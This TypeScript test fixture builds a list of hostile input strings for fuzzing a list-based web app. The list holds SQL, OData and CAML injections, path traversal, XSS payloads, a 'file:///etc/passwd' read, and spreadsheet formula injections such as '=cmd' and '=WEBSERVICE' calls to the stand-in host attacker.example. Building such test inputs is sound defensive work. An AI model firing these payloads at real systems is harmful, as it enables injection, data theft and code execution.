// Strings that mean something to somebody on the way: to a query, a page, a spreadsheet, a reader's eye, a parser.

/** What a script would set, were one of these ever run. */
export const marker = "improvementBoardWasAttacked";
/** Nobody must ever ask anything of this host. */
export const foreignHost = "attacker.example";

const run = `parent.${marker}=window.${marker}=1`;
const foreign = `https://${foreignHost}`;

const quotes = [`'`, `"`, "`", `''`, `"'`, `O'Brien's "plan"`, `\\'`, `%27`, `&#39;`, `&quot;`, `”“‘’`, `--`, `/* */`];

const queries = [
  `' or 1 eq 1 or '1' eq '`,
  `x') or startswith(Title,'`,
  `$filter=Id gt 0&$top=5000`,
  `')/items(1)/delete('`,
  `?$select=*&$expand=Author`,
  `1;drop table items;--`,
  `' union select 1,2,3 --`,
  `<Where><Geq><FieldRef Name="ID"/><Value Type="Counter">0</Value></Geq></Where>`,
  `</Value></Eq></Where></Query><Query>`,
  `]]><Eq/><![CDATA[`,
  `<View Scope="RecursiveAll"><RowLimit>1</RowLimit></View>`,
  `[$Title]`,
  `=if([$Title]=='','a','b')`,
  `@currentField`,
  `@me`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `../../_api/web`,
  `/sites/other/_layouts/15/settings.aspx`,
  `%2e%2e%2f%00`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `blob:${foreign}/x`,
  `file:///etc/passwd`,
  `//${foreignHost}/x.png`,
  `${foreign}/x.png`,
  `\\\\${foreignHost}\\share`,
  `https://user:secret@${foreignHost}/`,
  `mailto:a@b.example?body=<script>${run}</script>`,
];

const markup = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="${foreign}/beacon.png">`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<a href="javascript:${run}">open</a>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<style>@import "${foreign}/x.css";</style>`,
  `<link rel=stylesheet href="${foreign}/x.css">`,
  `<base href="${foreign}/">`,
  `<meta http-equiv=refresh content="0;url=${foreign}">`,
  `<form action="${foreign}"><button autofocus>`,
  `<math><mtext></mtext><script>${run}</script></math>`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<div style="background:url(${foreign}/x.png)">`,
  `<textarea></textarea><script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `<template><script>${run}</script></template>`,
];

const letters = [
  `\u202Eevil\u202C`,
  `\u2066isolated\u2069`,
  `\u200Bzero\u200Dwidth\uFEFF`,
  `שלום עולם`,
  `مرحبا بالعالم`,
  `Z\u0351\u036B\u0343a\u0363\u0366l\u0321\u0353g\u0321o\u0321`,
  `👩‍👩‍👧‍👦 🏳️‍🌈`,
  `\uD800`,
  `\uDC00`,
  `a\uD83Db`,
  `\u0000`,
  `a\u0000b`,
  `\u0001\u0008\u000B\u001F`,
  `\u007F\u0085`,
  `\u2028line\u2029separators`,
  `\uFFFE\uFFFF`,
  `ｆｕｌｌｗｉｄｔｈ`,
  `İıſK`,
  `\r\nwindows\r\nlines`,
  `\ttab\tbetween`,
  `  spaces around  `,
];

const formulas = [
  `=1+1`,
  `+1`,
  `-1`,
  `@SUM(A1:A9)`,
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("${foreign}","open")`,
  `=WEBSERVICE("${foreign}")`,
  `\t=1+1`,
  `"=1+1"`,
  `;=1+1`,
  `=TODAY()`,
];

const words = [
  `null`,
  `undefined`,
  `NaN`,
  `Infinity`,
  `1e309`,
  `-0`,
  `0x10`,
  `true`,
  `__proto__`,
  `constructor`,
  `toString`,
  `[object Object]`,
  `{"odata.error":{}}`,
  `SC1 SC1`,
  `1.1.1`,
  `2026-13-45`,
];

const lengths = [255, 256, 63_999, 64_000].flatMap((length) => [
  "x".repeat(length),
  "é".repeat(length),
  `<b>${"y".repeat(length - 3)}`,
]);

const payloads = [...quotes, ...queries, ...addresses, ...markup, ...letters, ...formulas, ...words];

/** The ways a string may stand among others. */
const settings: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}<"`,
  (payload) => `'${payload}'`,
  (payload) => `Before ${payload} after`,
  (payload) => `First line\n${payload}`,
];

/** At least 500, each once. */
export const hostileStrings: readonly string[] = [
  ...new Set([...settings.flatMap((set) => payloads.map(set)), ...lengths]),
];
